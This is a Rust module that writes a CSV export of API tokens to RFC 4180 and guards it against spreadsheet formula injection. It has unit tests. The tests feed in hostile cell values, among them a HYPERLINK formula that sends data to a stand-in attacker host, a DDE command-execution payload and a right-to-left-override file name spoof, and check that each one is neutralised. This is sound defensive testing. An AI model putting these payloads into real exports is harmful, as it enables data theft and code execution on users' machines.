//! The CSV file: RFC 4180 with CRLF line ends, UTF-8 with a byte-order mark (so Excel reads
//! non-ASCII names right), and every cell that a spreadsheet would run as a formula
//! neutralised (OWASP "CSV injection").
//!
//! Columns: `id, name, created, modified, version, used by`. Timestamps are the API's ISO
//! 8601 text; `used by` lists the users as `agent:<id>`, `tool:<id>`, `mcp:<id>` and
//! `oauth:<id>`, separated by `; ` (in that order of kinds). A missing value is an empty cell.

use std::borrow::Cow;

use super::rows::ExportRow;
use ai_client::{TokenUser, UserKind};

/// The header row's cells.
pub const HEADER: [&str; 6] = ["id", "name", "created", "modified", "version", "used by"];

/// The byte-order mark the file starts with.
pub const BOM: char = '\u{FEFF}';

/// The whole file: BOM, header and one line per row, each ending in CRLF.
pub fn write(rows: &[ExportRow]) -> String {
    let mut out = String::with_capacity(64 + rows.len() * 96);
    out.push(BOM);
    push_line(&mut out, HEADER.iter().map(|h| Cow::Borrowed(*h)));
    for row in rows {
        let text = |value: &Option<String>| Cow::Owned(value.clone().unwrap_or_default());
        push_line(
            &mut out,
            [
                Cow::Borrowed(row.id.as_str()),
                text(&row.name),
                text(&row.created),
                text(&row.modified),
                Cow::Owned(row.version.map(|v| v.to_string()).unwrap_or_default()),
                Cow::Owned(used_by(&row.used_by)),
            ]
            .into_iter(),
        );
    }
    out
}

/// `agent:<id>; tool:<id>; mcp:<id>; oauth:<id>` for the users, in their order.
pub fn used_by(users: &[TokenUser]) -> String {
    users
        .iter()
        .map(|user| {
            let kind = match user.kind {
                UserKind::Agent => "agent",
                UserKind::Tool => "tool",
                UserKind::McpServer => "mcp",
                UserKind::OAuth => "oauth",
            };
            format!("{kind}:{}", user.id)
        })
        .collect::<Vec<_>>()
        .join("; ")
}

fn push_line<'a>(out: &mut String, cells: impl Iterator<Item = Cow<'a, str>>) {
    for (i, cell) in cells.enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&quote(&neutralise(&cell)));
    }
    out.push_str("\r\n");
}

/// `cell` with a leading `'` when it starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return — the characters that make a spreadsheet read a cell as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `cell` as an RFC 4180 field: in double quotes, with quotes doubled, when it holds a
/// comma, a double quote, a CR or a LF; as it is otherwise.
pub fn quote(cell: &str) -> Cow<'_, str> {
    if cell.contains([',', '"', '\r', '\n']) {
        Cow::Owned(format!("\"{}\"", cell.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The test suites' CSV reader: what a spreadsheet makes of [`write`]'s file.
#[cfg(test)]
#[path = "../../../tests/support/csv.rs"]
mod reader;

#[cfg(test)]
mod tests {
    use super::reader::read;
    use super::*;
    use crate::tokens::export::rows::join;
    use crate::tokens::export::rows::tests::{token, users};
    use ai_client::Token;

    /// The records of a file [`write`] made, which must start with the BOM.
    fn parse(file: &str) -> Vec<Vec<String>> {
        assert!(file.starts_with(BOM), "a BOM first");
        read(file).expect("a well-formed file")
    }

    fn named(names: &[&str]) -> String {
        let tokens: Vec<Token> = names
            .iter()
            .enumerate()
            .map(|(i, n)| token(&format!("t{i}"), Some(n)))
            .collect();
        write(&join(&tokens, &Default::default()))
    }

    #[test]
    fn header_and_rows_with_users() {
        let rows = join(
            &[token("shared", Some("Shared key")), token("lone", None)],
            &users(),
        );
        let file = write(&rows);
        assert!(file.starts_with("\u{FEFF}id,name,created,modified,version,used by\r\n"));
        assert_eq!(
            file.lines().nth(1).map(|l| l.trim_end_matches('\r')),
            Some("shared,Shared key,2025-01-02T03:04:05.000Z,2025-02-03T04:05:06.000Z,2,agent:support; agent:onprem; tool:rag; oauth:gw")
        );
        assert_eq!(
            parse(&file)[2],
            [
                "lone",
                "",
                "2025-01-02T03:04:05.000Z",
                "2025-02-03T04:05:06.000Z",
                "2",
                ""
            ]
        );
        assert!(file.ends_with("\r\n"));
        assert_eq!(
            write(&[]),
            "\u{FEFF}id,name,created,modified,version,used by\r\n"
        );
    }

    #[test]
    fn quotes_commas_and_line_breaks_are_quoted() {
        assert_eq!(quote("plain"), "plain");
        assert_eq!(quote("a,b"), "\"a,b\"");
        assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(quote("two\nlines"), "\"two\nlines\"");
        assert_eq!(quote("cr\rhere"), "\"cr\rhere\"");
        assert_eq!(quote(""), "");
    }

    #[test]
    fn formulas_are_neutralised() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+49 30", "'+49 30"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tindent", "'\tindent"),
            ("\rcarriage", "'\rcarriage"),
            ("a=b", "a=b"),
            (" =not first", " =not first"),
            ("'quoted already", "'quoted already"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), shown, "{cell:?}");
        }
    }

    #[test]
    fn hostile_names_survive_a_round_trip_and_never_run() {
        let long = "x".repeat(10_000);
        let names = [
            r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
            "He said \"hi\", then left",
            "first line\nsecond line\r\nthird",
            "\u{202E}gnp.exe",
            "שלום עולם",
            "Grüße aus Köln 🎉👩‍💻",
            "-cmd|' /C calc'!A0",
            "@import",
            "\t=tabbed",
            &long,
        ];
        let file = named(&names);
        let records = parse(&file);
        assert_eq!(records.len(), names.len() + 1);
        for (record, name) in records[1..].iter().zip(names) {
            assert_eq!(record.len(), HEADER.len());
            let expected = neutralise(name);
            assert_eq!(record[1], expected, "{name:?}");
            assert!(
                !record
                    .iter()
                    .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
                "{record:?}"
            );
        }
        assert_eq!(records[10][1].len(), 10_000);
        assert!(file.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    }

    #[test]
    fn ids_that_look_like_formulas_are_neutralised_too() {
        let file = write(&join(&[token("-rm", Some("n"))], &Default::default()));
        assert_eq!(parse(&file)[1][0], "'-rm");
    }

    #[test]
    fn used_by_lists_every_kind() {
        assert_eq!(
            used_by(&users().of("shared").users),
            "agent:support; agent:onprem; tool:rag; oauth:gw"
        );
        assert_eq!(used_by(&users().of("gh").users), "mcp:gh2");
        assert_eq!(used_by(&[]), "");
    }
}
